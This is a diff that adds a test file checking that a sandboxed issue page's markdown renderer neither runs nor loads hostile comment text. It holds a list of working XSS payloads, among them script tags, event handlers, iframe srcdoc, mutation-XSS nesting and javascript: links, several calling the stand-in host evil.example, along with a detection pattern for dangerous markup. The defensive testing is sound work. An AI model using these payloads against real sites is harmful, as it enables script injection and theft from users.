@@ -1,0 +1,129 @@
+import { describe, expect, it } from '@jest/globals'
+import fc from 'fast-check'
+import { createMarkdown } from '../../sandbox/page/markdown.ts'
+import { NASTY } from '../attacks/nasty.ts'
+import { hostileComment, hostileHtml } from './hostile-comment.ts'
+import { ends, noTrouble, visit, write } from './visit.ts'
+
+/** Each would call `alert`, or ask evil.example, if it could. */
+const VECTORS = [
+  '<script>alert(1)</script>',
+  '<script src=https://evil.example/x.js></script>',
+  '<img src=https://evil.example/x.png onerror=alert(1)>',
+  '![x](https://evil.example/x.png)',
+  '<svg onload=alert(1)></svg>',
+  '<iframe src=https://evil.example></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<object data=https://evil.example></object>',
+  '<embed src=https://evil.example>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>@import "https://evil.example/x.css"</style>',
+  '<p style="background:url(https://evil.example/x.png)">x</p>',
+  '<body onload=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video poster=https://evil.example/x><source onerror=alert(1)></video>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href=https://evil.example>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<form id=composer action=https://evil.example><input name=body></form>',
+  '<b><i><a href="https://evil.example"><details>',
+  '</article></li></ol></div></section></main>',
+  '[click](javascript:alert(1)) <a href=javascript:alert(1)>click</a>',
+  NASTY
+]
+
+describe('hostile text', () => {
+  it('runs nothing, loads nothing, and stays in its place', async () => {
+    const evil = VECTORS.join('\n\n')
+    const visited = await visit({
+      before: ({ comment, runs, world }) => {
+        world.github.addIssue({ number: 9, title: evil, by: 'x', body: evil })
+        for (const body of VECTORS) comment({ by: 'octo-reader', body })
+        comment({ by: 'octo-dev', body: 'The last word' })
+        runs.showByHand(
+          { id: 1, issue: 7, by: 'octo-dev' },
+          { outputs: { [evil]: evil, outcome: evil }, summary: evil }
+        )
+      }
+    })
+    const { page, pageUrl, comment } = visited
+    // By news as well as with the page.
+    comment({ by: 'octo-reader', body: evil })
+    comment({ by: 'octo-dev', body: 'The very last word' })
+    await page.getByText('The very last word').waitFor()
+
+    expect(await page.evaluate(STRANGE)).toEqual([])
+    for (const text of ['The last word', 'The very last word']) {
+      const last = page.getByRole('article').filter({ hasText: text })
+      const body = await last.locator('.markdown-body').innerHTML()
+      expect(body.trim()).toBe(`<p>${text}</p>`)
+    }
+    await page.goto(pageUrl.replace('issues/7', 'issues/9'))
+    expect(await page.evaluate(STRANGE)).toEqual([])
+    noTrouble(visited)
+  })
+
+  it('typed on the page is sent as it is, and answered as text', async () => {
+    const visited = await visit()
+    const { page, world } = visited
+    // With our own marker in it the action would let it be.
+    const text = NASTY.replace('agent-follow-up:v1', 'some-other:v1')
+    await write(page, `/agent ${text}`)
+    await ends(page, 'completed')
+    const [message] = world.service.messages
+    expect(message?.prompt).toContain('<script>alert(1)</script>')
+    await page.getByRole('region', { name: 'Step summary' }).waitFor()
+    expect(await page.evaluate(STRANGE)).toEqual([])
+    noTrouble(visited)
+  })
+
+  it('of any kind leaves what follows it alone', async () => {
+    const { page, trouble } = await visit()
+    const render = createMarkdown({
+      person: () => true,
+      page: () => 'http://127.0.0.1/'
+    })
+    const some = { numRuns: 400, seed: 1 }
+    const texts = [hostileComment, hostileHtml].flatMap(kind =>
+      fc.sample(kind, some)
+    )
+    const markups = [...texts, ...VECTORS].map(text => render(text).markup)
+    const parse = `((markups) => markups.filter(markup => {
+      const page = new DOMParser().parseFromString(
+        '<main><article><div>' + markup + '</div></article><p id="after">after</p></main>',
+        'text/html'
+      )
+      const after = page.getElementById('after')
+      const isApart = after.parentElement?.localName === 'main' &&
+        after.innerHTML === 'after' &&
+        page.querySelector('article > div') !== null &&
+        page.body.children.length === 1
+      return !isApart || (${STRANGE_IN})(page.body).length > 0
+    }).map(markup => markup.slice(0, 300)))`
+    expect(await page.evaluate(`${parse}(${JSON.stringify(markups)})`)).toEqual(
+      []
+    )
+    // What is not closed would be found.
+    const open = [
+      '<p><b>x</p>',
+      '</div></article></main>',
+      '<p><script></script>'
+    ]
+    expect(await page.evaluate(`${parse}(${JSON.stringify(open)})`)).toEqual(
+      open
+    )
+    expect(trouble).toEqual([])
+  })
+})
+
+/** What in a tree only our own markup could be, and is not. */
+const STRANGE_IN = `root => [...root.querySelectorAll('*')].filter(one =>
+    ['script', 'style', 'iframe', 'object', 'embed', 'link', 'base', 'meta', 'video', 'math', 'noscript', 'img'].includes(one.localName) ||
+    [...one.attributes].some(({ name }) => /^(on|style|srcdoc|formaction)/.test(name)) ||
+    (one.localName === 'a' && !/^(https?|mailto):$/.test(one.protocol)) ||
+    (one.localName === 'form' && one.getAttribute('action').startsWith('https')) ||
+    (one.localName === 'input' && one.type !== 'checkbox')
+  ).map(one => one.outerHTML.slice(0, 80))`
+const STRANGE = `(${STRANGE_IN})(document.body)`
